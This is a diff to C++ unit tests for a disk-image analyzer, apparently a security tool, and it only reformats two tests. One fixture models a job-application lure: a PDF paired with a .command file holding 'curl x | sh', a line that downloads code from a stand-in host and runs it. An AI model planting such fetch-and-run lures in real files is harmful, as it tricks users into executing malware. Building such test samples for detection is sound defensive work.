@@ -112,7 +112,8 @@ TEST(DiskImageAnalyzer, VhdxWithOnePayloadBlock) {
 }
 
 TEST(DiskImageAnalyzer, DmgWithZlibFatPartition) {
-  Bytes fat = make_fat({}, {{"Job Description.pdf", kPdf}, {"Job Description.command", "#!/bin/sh\ncurl x | sh\n"}});
+  Bytes fat = make_fat(
+      {}, {{"Job Description.pdf", kPdf}, {"Job Description.command", "#!/bin/sh\ncurl x | sh\n"}});
   Bytes dmg = disk::testing::make_dmg(fat, 0x80000005, 2048, "disk image (DOS_FAT_12 : 1)");
   ASSERT_EQ(identify(dmg), FileType::kDmg);
   RecordingContext ctx = run(FileType::kDmg, dmg);
@@ -129,8 +130,7 @@ TEST(DiskImageAnalyzer, DmgHfsPlusIsListedNotRead) {
   Bytes hfs(64 * 1024, 0);
   disk::testing::put_str(hfs, 1024, "H+");
   RecordingContext ctx = run(FileType::kDmg, disk::testing::make_dmg(hfs, 0x80000006));
-  EXPECT_EQ(strings(ctx, "file_systems"),
-            std::vector<std::string>{"partition1: hfs+ (not read)"});
+  EXPECT_EQ(strings(ctx, "file_systems"), std::vector<std::string>{"partition1: hfs+ (not read)"});
   EXPECT_TRUE(ctx.children.empty());
 }
 
